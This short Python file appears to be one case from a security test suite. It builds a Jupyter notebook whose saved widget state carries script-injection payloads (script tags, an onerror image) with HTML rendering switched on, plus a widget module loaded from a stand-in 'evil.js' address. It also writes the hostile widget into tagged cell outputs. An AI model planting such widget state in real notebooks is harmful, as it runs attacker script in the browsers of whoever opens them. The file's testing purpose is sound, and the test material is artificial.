# attack: notebook-widget-state  expect: scored=honest
"""Brings the saved state of widgets that a notebook program draws when it opens the file."""


def submit(notebook, slot):
    html = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    model = {"model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0"}
    model |= {"model_name": "HTMLModel", "state": {"value": html, "description_allow_html": True}}
    module = {"model_module": "https://127.0.0.1/evil.js", "model_name": "Evil", "state": {}}
    notebook["metadata"]["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "version_major": 2,
            "version_minor": 0,
            "state": {"evil": model, "more": module},
        }
    }
    view = {"application/vnd.jupyter.widget-view+json": {"model_id": "evil", "version_major": 2}}
    for cell in notebook["cells"]:
        if "slot" in cell["metadata"]["tags"]:
            cell["outputs"] = [{"output_type": "display_data", "data": view, "metadata": {}}]
    return notebook
